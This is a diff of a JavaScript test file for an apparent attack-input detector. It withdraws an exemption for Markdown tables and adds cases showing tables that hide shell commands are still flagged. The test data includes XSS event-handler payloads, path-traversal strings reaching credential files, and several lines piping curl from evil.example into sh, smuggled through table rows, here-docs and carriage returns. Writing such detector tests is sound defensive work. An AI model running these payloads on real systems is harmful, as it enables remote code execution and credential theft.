@@ -2921,11 +2921,13 @@ t.test("thirty-fifth round: the twenty-seventh part's false positives — a form
     '<input autofocus onfocus="logout()">', '<body onload="deleteAccount()">', '<video src=x autoplay onplay="webkitEnterFullscreen()">', '<input type=file onclick="showPicker()">', '<a onclick="requestStorageAccess()">', '<a onmouseover="replaceChildren()">', '<input type=number onclick="stepUp()">']) t.ok(q(v).includes('xss'), `still read: ${JSON.stringify(v)}`)
   for (const v of ['<a onclick="ExportCSV();"/>', "<a onclick='save()'>x</a>"]) t.same(q(v, 'description'), [], v)
   for (const v of ['../../apache-tomcat-9.0.1/conf/tomcat-users.xml', '../../apache-activemq/conf/credentials.properties', '..%2f..%2fapache-tomcat%2fconf%2ftomcat-users.xml', '../../xampplite/passwords.txt', '..\\..\\xampplite\\security\\xamppdirpasswd.txt']) t.ok(json({ ...filler, template: v }).includes('path_traversal'), `still read: ${v}`)
-  // a chat message's Markdown table in a JSON document: its rows' pipes are cells' borders (a line opening on `|` runs nothing); a table
-  // alone in a query is judged, as before
-  const calendar = "Here's your content calendar for next week:\n\n| Date       | Theme     | Post Type  |\n|------------|-----------|------------|\n| Monday     | Launch    | Carousel   |\n\nWould you like more?"
-  t.same(json({ ...filler, content: calendar }), [], 'a table in a chat message')
-  for (const v of ['x; curl http://evil.example/x.sh | sh\n| Date | Theme |\n|---|---|\n| a | b |', '| Date | Theme |\n|---|---|\n|a|b|\nx|id', '| Date | Theme |\n|---|---|\n| a | b |\n; curl http://evil.example/x.sh | sh']) t.ok(json({ ...filler, content: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
+  // withdrawn after review: a Markdown table in a JSON document's text is judged as any text (a row can run: `\r| curl …|sh #|`, a
+  // row continued by a backslash, `$(…)` in a row inside a quote or a here-doc)
+  const T = '| a | b |\n|---|---|\n'
+  for (const v of ['x; curl http://evil.example/x.sh | sh\n| Date | Theme |\n|---|---|\n| a | b |', '| Date | Theme |\n|---|---|\n|a|b|\nx|id', `${T}| $(curl -s http://evil.example/x.sh|sh) | x |`, `cat <<EOF\n| $(curl -s http://evil.example/x.sh|sh) |\nEOF\n${T}`,
+    `echo \\\n| curl -s http://evil.example/x.sh | sh #|\n${T}`, `| curl -s http://evil.example/x.sh | sh #|\n${T}`, `\r| curl -s http://evil.example/x.sh | sh #|\n${T}`]) t.ok(json({ ...filler, content: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
+  // and in a Markdown document, a row ends at a line feed only
+  t.ok(json({ body: `## Aliases\n\n| Alias | Command |\n|---|---|\n| a | b |\r| curl -s http://evil.example/x.sh | sh #|\n` }).includes('rce'), 'a carriage return inside a row')
   // a climb to a word that begins like a system directory is no climb to it
   t.same(q('See [the docs](../../config/bootloader.md#double-tap) for more.', 'body'), [], 'a documentation link to a bootloader page')
   for (const v of ['../../boot/grub/grub.cfg', '..\\..\\boot.ini', '../../../windows/win.ini', '..%2f..%2fwindows%2fwin.ini', '../../apache2/logs/access.log', '../../xampp/apache/conf/httpd.conf', '..\\..\\inetpub\\wwwroot\\web.config', '../boot', '../../WINDOWS/system32/drivers/etc/hosts']) t.ok(q(v, 'file').includes('path_traversal'), `still read: ${v}`)
